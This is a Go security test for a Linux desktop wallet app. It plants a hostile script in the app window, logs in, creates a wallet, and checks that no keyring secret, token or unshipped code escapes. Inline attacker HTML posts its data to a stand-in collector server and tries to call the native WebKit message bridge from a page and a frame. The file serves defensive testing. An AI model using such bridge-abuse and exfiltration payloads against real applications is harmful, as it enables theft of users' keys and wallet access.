//go:build linux

package windowtest

import (
	_ "embed"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/godbus/dbus/v5"
)

//go:embed testdata/attack.js
var attack string

// taken is what the attacker's page brings home.
type taken struct {
	Results map[string]string `json:"results"`
	Ran     []string          `json:"ran"`   // code that must not have run
	Still   string            `json:"still"` // what the window answers in the end
	Loot    json.RawMessage   `json:"loot"`  // all that any call answered
}

// collector is the attacker's own server.
type collector struct {
	mu    sync.Mutex
	heard []string // requests that must not have come
	loot  chan taken
	raw   []byte
	then  chan string // what the attacker's page made of the bridge
}

// landed is the attacker's own page in the window's place: it reports what it carries, and tries the bridge.
const landed = `<!doctype html><title>landed</title><script type="module">
await fetch("/loot", {method: "POST", body: decodeURIComponent(location.hash.slice(1))});
let said = "no bridge";
try {
	const answer = new Promise((done) => { window.wails = {Callback: done}; setTimeout(() => done("no answer"), 3000); });
	window.webkit.messageHandlers.external.postMessage('C{"name":"app.App.State","args":[],"callbackID":"x"}');
	said = String(await answer);
} catch (why) { said = "refused: " + why.name; }
await fetch("/then", {method: "POST", body: said});
</script>`

// framed would call the bridge from a frame.
const framed = `<!doctype html><script>fetch("/hit/framed"); try {
	window.webkit.messageHandlers.external.postMessage('C{"name":"app.App.State","args":[],"callbackID":"x"}'); fetch("/hit/frame-called");
} catch {}</script>`

func (c *collector) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(io.LimitReader(r.Body, 64<<20))
	w.Header().Set("Content-Type", "text/html")
	w.Header().Set("Access-Control-Allow-Origin", "*")
	switch r.URL.Path {
	case "/landed":
		fmt.Fprint(w, landed)
	case "/loot":
		var t taken
		_ = json.Unmarshal(body, &t)
		c.raw = body
		c.loot <- t
	case "/then":
		c.then <- string(body)
	case "/favicon.ico":
	default:
		c.mu.Lock()
		c.heard = append(c.heard, r.URL.Path)
		c.mu.Unlock()
		if r.URL.Path == "/frame" {
			fmt.Fprint(w, framed)
		}
	}
}

// A hostile script in the page of the production window, for somebody who is logged in and has a wallet: nothing that it
// tries gets a secret out, runs code that was not shipped, or signs.
func TestR7_AHostilePage(t *testing.T) {
	c := &collector{loot: make(chan taken, 1), then: make(chan string, 1)}
	server := httptest.NewServer(c)
	t.Cleanup(server.Close)
	path := infected(t, strings.Replace(attack, `"COLLECTOR"`, strconv.Quote(server.URL), 1))
	d := openDesk(t, "")
	d.startKeyring()
	opened := d.watchLinks()
	w := d.open(path)
	w.logIn()
	w.makeWallet()

	var got taken
	select {
	case got = <-c.loot:
	case <-time.After(8 * time.Minute):
		t.Fatalf("the attack did not come to its end\n%s", w.said())
	}
	if n := len(got.Results); n < 30 {
		t.Errorf("only %d attacks", n)
	}
	for _, name := range slices.Sorted(maps.Keys(got.Results)) {
		t.Logf("%-32s %s", name, got.Results[name])
	}
	if len(got.Ran) > 0 {
		t.Errorf("code ran that was not shipped: %v", got.Ran)
	}
	c.mu.Lock()
	if len(c.heard) > 0 {
		t.Errorf("let out to another server: %v", c.heard)
	}
	c.mu.Unlock()
	if got.Still != "answered" {
		t.Errorf("the window in the end: %s", got.Still)
	}
	secrets := d.secrets()
	if len(secrets) < 2 {
		t.Fatalf("only %d secrets are known to look for", len(secrets))
	}
	said := w.said()
	for _, s := range secrets {
		for _, form := range []string{s, hex.EncodeToString([]byte(s)), base64.StdEncoding.EncodeToString([]byte(s)), base64.RawURLEncoding.EncodeToString([]byte(s))} {
			if strings.Contains(string(c.raw), form) {
				t.Errorf("a secret is in what the page learned")
			}
			if strings.Contains(said, form) {
				t.Errorf("a secret is in what the program said")
			}
		}
	}
	links, err := os.ReadFile(opened)
	if err != nil {
		t.Error("nothing asked for the system's browser, so that was not tried")
	}
	for _, scheme := range []string{"file:", "javascript:", "data:"} {
		if strings.Contains(string(links), scheme) {
			t.Errorf("the system was asked to open %s", links)
		}
	}
	if strings.Contains(string(c.raw), "eyJ") {
		t.Error("a token is in what the page learned")
	}
	for _, path := range w.requests() {
		if strings.HasPrefix(path, "/public/") && !slices.Contains(harmless, path) {
			t.Errorf("the page brought the window to send %s", path)
		}
	}
	select {
	case then := <-c.then:
		if !strings.HasPrefix(then, "no answer") && !strings.HasPrefix(then, "refused") {
			t.Errorf("a foreign page in the window's place: %s", then)
		}
	case <-time.After(2 * time.Minute):
		t.Error("the foreign page does not report")
	}
	t.Logf("%d attacks, %d secrets looked for, %d requests behind them", len(got.Results), len(secrets), len(w.requests()))
}

// harmless are the calls that a page may cause without a person: they sign nothing, and take and give no right.
var harmless = []string{
	"/public/v1/submit/init_otp", "/public/v1/submit/verify_otp", "/public/v1/submit/otp_login", "/public/v1/submit/create_sub_organization",
	"/public/v1/query/list_verified_suborgs", "/public/v1/query/list_suborgs", "/public/v1/query/whoami", "/public/v1/query/list_wallets", "/public/v1/query/list_wallet_accounts", "/public/v1/submit/create_wallet",
	"/public/v1/submit/stamp_login", "/public/v1/query/list_user_tags", "/public/v1/query/get_api_keys", "/public/v1/submit/delete_api_keys",
	"/public/v1/query/get_activity", "/public/v1/query/get_user",
	"/public/v1/query/list_oauth2_credentials", "/public/v1/submit/create_oauth2_credential", // of the sandbox's own apps, once, at its start
}

// watchLinks puts a program in the place of the one that opens links, and returns the file in which that writes them.
func (d *desk) watchLinks() string {
	d.t.Helper()
	bin, opened := filepath.Join(d.home, "bin"), filepath.Join(d.home, "opened")
	if err := os.Mkdir(bin, 0o700); err != nil {
		d.t.Fatal(err)
	}
	script := "#!/bin/sh\necho \"$@\" >> " + opened + "\n"
	for _, name := range []string{"xdg-open", "x-www-browser", "www-browser"} {
		if err := os.WriteFile(filepath.Join(bin, name), []byte(script), 0o700); err != nil {
			d.t.Fatal(err)
		}
	}
	for i, v := range d.env {
		if path, ok := strings.CutPrefix(v, "PATH="); ok {
			d.env[i] = "PATH=" + bin + ":" + path
		}
	}
	return opened
}

// secrets are the values of all items in the keyring: keys, and what seals the state.
func (d *desk) secrets() []string {
	d.t.Helper()
	service := d.session.Object(secretsName, secretsPath)
	var out dbus.Variant
	var session dbus.ObjectPath
	if err := service.Call("org.freedesktop.Secret.Service.OpenSession", 0, "plain", dbus.MakeVariant("")).Store(&out, &session); err != nil {
		d.t.Fatal(err)
	}
	var items dbus.Variant
	if err := d.session.Object(secretsName, loginPath).Call("org.freedesktop.DBus.Properties.Get", 0, "org.freedesktop.Secret.Collection", "Items").Store(&items); err != nil {
		d.t.Fatal(err)
	}
	paths, _ := items.Value().([]dbus.ObjectPath)
	var values []string
	for _, path := range paths {
		var secret struct {
			Session     dbus.ObjectPath
			Parameters  []byte
			Value       []byte
			ContentType string
		}
		if err := d.session.Object(secretsName, path).Call("org.freedesktop.Secret.Item.GetSecret", 0, session).Store(&secret); err != nil {
			d.t.Fatal(err)
		}
		if len(secret.Value) >= 16 {
			values = append(values, string(secret.Value))
		}
	}
	return values
}

// requests are the paths of all requests that the sandbox inside the window has had, oldest first.
func (w *window) requests() []string {
	w.desk.t.Helper()
	var out struct {
		Requests []struct {
			Path string `json:"path"`
		} `json:"requests"`
	}
	if err := json.Unmarshal(w.control(http.MethodGet, "/requests?limit=1000", ""), &out); err != nil {
		w.desk.t.Fatal(err)
	}
	paths := make([]string, len(out.Requests))
	for i, r := range out.Requests {
		paths[i] = r.Path
	}
	return paths
}
